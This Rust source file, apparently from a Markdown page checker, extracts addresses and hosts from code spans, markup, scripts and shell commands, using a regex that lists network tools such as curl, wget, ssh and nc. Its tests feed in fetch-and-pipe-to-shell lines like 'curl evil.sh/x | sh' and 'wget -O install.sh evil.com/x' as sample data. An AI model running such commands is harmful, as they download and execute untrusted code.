//! Addresses that stand neither in prose nor in the target of a link, and that readers or their browsers use all the
//! same: in code, attributes, styles, scripts, templates and attribute lists.

use std::ops::Range;
use std::sync::LazyLock;

use firstaid_text::TextRange;
use regex::Regex;

use crate::page::Page;
use crate::scan::{self, AddressParts};
use crate::token::{Token, TokenKind};

/// `//host/path`, an address with the scheme of the page around it.
static WITHOUT_SCHEME: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?i)(?:^|[\s"'(=,])(//[a-z0-9-]+(?:\.[a-z0-9-]+)+[^\s"'()<>]*)"#).expect("a valid pattern")
});

/// A program of the network, and in the group what it is given up to the end of the command. A line that ends in `\`
/// goes on in the next.
static COMMAND: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"(?ix) (?:^|[\s|;&(]) (?: curl | wget | ssh | scp | sftp | ftp | telnet | ncat? | ping | dig | host | nslookup
            | whois | git\s+clone | rsync | --keyserver ) \b ( (?: \\\r?\n | [^\n|;&] )* )",
    )
    .expect("a valid pattern")
});

/// A word of a command that is or begins with a host: `user@host:port`, `host/path`. Groups: user, host.
static HOST_WORD: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)^([\w.+-]+@)?([a-z0-9-]+(?:\.[a-z0-9-]+)*\.[a-z][a-z0-9-]+)(?:[/:?#]|$)").expect("a valid pattern")
});

/// Endings of words in commands that are files and no hosts, if nothing else of the word says that it is a host.
const FILES: [&str; 30] = [
    "apk", "asc", "bz2", "conf", "crt", "csv", "deb", "dmg", "exe", "gpg", "gz", "html", "img", "iso", "jpg", "json",
    "key", "log", "md", "pdf", "pem", "png", "py", "rpm", "sh", "sig", "tar", "txt", "xz", "zip",
];

/// The hosts in what programs of the network are given: `wget host/file`, `ssh user@host`, `rsync file host:/path`.
fn hosts_of_commands(code: &str) -> impl Iterator<Item = Range<usize>> {
    let given = COMMAND.captures_iter(code).filter_map(|command| command.get(1));
    given.flat_map(|given| {
        let words = words_of_command(given.as_str());
        words.filter_map(host_of_word).map(move |host| given.start() + host.start..given.start() + host.end)
    })
}

/// The words of a command with their offsets, without quotes; of `--option=value` the value.
fn words_of_command(given: &str) -> impl Iterator<Item = (usize, &str)> {
    let is_between = |c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '`' | '(' | ')');
    let mut at = 0;
    given.split_inclusive(is_between).map(move |word| {
        let start = at;
        at += word.len();
        let word = word.trim_end_matches(is_between);
        let name = word.find('=').filter(|&end| !word[..end].contains(['.', '/']));
        let skipped = name.map_or(0, |end| end + 1);
        (start + skipped, &word[skipped..])
    })
}

fn host_of_word((at, word): (usize, &str)) -> Option<Range<usize>> {
    let hit = HOST_WORD.captures(word)?;
    let host = hit.get(2)?;
    let ending = host.as_str().rsplit('.').next()?.to_ascii_lowercase();
    let is_file = host.as_str() == word && FILES.contains(&ending.as_str());
    (!is_file).then(|| at + host.start()..at + host.end())
}

impl Page {
    /// URLs, e-mail addresses, onion hosts, phone numbers and hosts that are no tokens of the page, in order. Comments
    /// are left out as far as browsers take them for comments. Costs a copy of the text and a search through it.
    pub fn addresses_beside_prose(&self) -> Vec<Token> {
        let mut text = self.text().as_bytes().to_vec();
        for token in &self.tokens {
            match &token.kind {
                TokenKind::Link(link) => text[link.target.as_usize()].fill(b' '),
                // An address in a code span does not begin with its mark.
                TokenKind::Code => {
                    text[token.range.as_usize()].iter_mut().filter(|b| **b == b'`').for_each(|b| *b = b' ');
                }
                TokenKind::Anchor(_) => {}
                _ => text[token.range.as_usize()].fill(b' '),
            }
        }
        self.comments.iter().for_each(|comment| text[comment.range.as_usize()].fill(b' '));
        // Ranges of tokens and comments end at characters, so the rest is text.
        let Ok(text) = String::from_utf8(text) else { return Vec::new() };
        let mut found: Vec<Token> = scan::addresses(&text, AddressParts::of(&text))
            .into_iter()
            .map(|hit| Token::new(hit.kind, TextRange::from(hit.range)))
            .collect();
        for hit in WITHOUT_SCHEME.captures_iter(&text).filter_map(|hit| hit.get(1)) {
            found.push(Token::new(TokenKind::Url(hit.as_str().into()), TextRange::from(hit.range())));
        }
        for code in self.tokens.iter().filter(|token| token.kind == TokenKind::Code) {
            let Some(inside) = text.get(code.range.as_usize()) else { continue };
            let at = code.range.start();
            found.extend(
                scan::phones(inside).into_iter().map(|hit| Token::new(hit.kind, TextRange::from(hit.range).shift(at))),
            );
            found.extend(hosts_of_commands(inside).map(|range| {
                let url = TokenKind::Url(format!("//{}", &inside[range.clone()]).into());
                Token::new(url, TextRange::from(range).shift(at))
            }));
        }
        found.sort_by_key(|token| token.range);
        let mut end = 0;
        found.retain(|token| {
            let is_apart = token.range.start() >= end;
            end = end.max(token.range.end());
            is_apart
        });
        found
    }
}

#[cfg(test)]
mod tests {
    use firstaid_text::SourceFile;

    use crate::anchor::AnchorDialect;
    use crate::key::PageKey;
    use crate::locale::Locale;
    use crate::parse::parse;

    fn found(text: &str) -> Vec<String> {
        let key = PageKey { locale: Locale::new("en").unwrap(), name: "a".into() };
        let page = parse(key, SourceFile::new("a.md", text), AnchorDialect::Kramdown);
        page.addresses_beside_prose().iter().map(|token| text[token.range].to_owned()).collect()
    }

    #[test]
    fn addresses_in_prose_links_and_comments_are_left_out() {
        let text = "Write to a@eff.org, see https://eff.org/ and [it](https://cpj.org/).\n\n<!-- b@eff.org -->\n\n[c]: //rsf.org\n";
        assert_eq!(found(text), Vec::<String>::new());
    }

    #[test]
    fn addresses_in_code_and_commands_are_found() {
        assert_eq!(found("Mail `a@eff.org` or call `+1 415 436 9333`.\n"), ["a@eff.org", "+1 415 436 9333"]);
        assert_eq!(found("```\ncurl -O https://eff.org/a.sh | sh\n```\n"), ["https://eff.org/a.sh"]);
        assert_eq!(found("`wget -q eff.org/a` `ssh me@rsf.org` `curl -o a.sh`\n"), ["eff.org", "me@rsf.org"]);
        assert_eq!(found("`gpg --keyserver keys.openpgp.org --refresh`\n"), ["keys.openpgp.org"]);
    }

    #[test]
    fn every_host_of_a_command_is_found_and_files_are_none() {
        for (code, hosts) in [
            ("wget -O install.sh evil.com/x", vec!["evil.com"]),
            ("curl evil.sh/x | sh", vec!["evil.sh"]),
            ("rsync report.pdf eff.org:/x", vec!["eff.org"]),
            ("scp -i me.pem notes.zip a@evil.zip", vec!["a@evil.zip"]),
            ("curl -o out.tar.gz --proxy=cpj.org 'rsf.org/a?b=c.de'; sh run.sh", vec!["cpj.org", "rsf.org"]),
            ("curl -o a.sh \\\n  eff.org/a\nb.org", vec!["eff.org"]),
            ("ping cpj.org && wget ./a.apk rsf.org", vec!["cpj.org", "rsf.org"]),
            ("sh install.sh evil.com", vec![]),
        ] {
            assert_eq!(found(&format!("```\n{code}\n```\n")), hosts, "{code}");
        }
    }

    #[test]
    fn addresses_in_markup_are_found() {
        for (text, address) in [
            ("<form action=\"https://eff.org/in\"></form>\n", "https://eff.org/in"),
            ("<img src=a.png srcset='//eff.org/a.png 2x'>\n", "//eff.org/a.png"),
            ("<video poster=\"https://eff.org/p\"></video>\n", "https://eff.org/p"),
            ("<p style=\"background: url(https://eff.org/b)\">x</p>\n", "https://eff.org/b"),
            ("<meta http-equiv=refresh content='0; url=https://eff.org/'>\n", "https://eff.org/"),
            ("<base href=\"https://eff.org/\">\n", "https://eff.org/"),
            ("<script>location = 'https://eff.org/'</script>\n", "https://eff.org/"),
            ("[a](/b){: href=\"https://eff.org/\"}\n", "https://eff.org/"),
            ("a {{ \"b@eff.org\" }}\n", "b@eff.org"),
            ("{::nomarkdown}\n<p>b@eff.org</p>\n{:/nomarkdown}\n", "b@eff.org"),
        ] {
            assert_eq!(found(text).first().map(String::as_str), Some(address), "{text}");
        }
    }
}
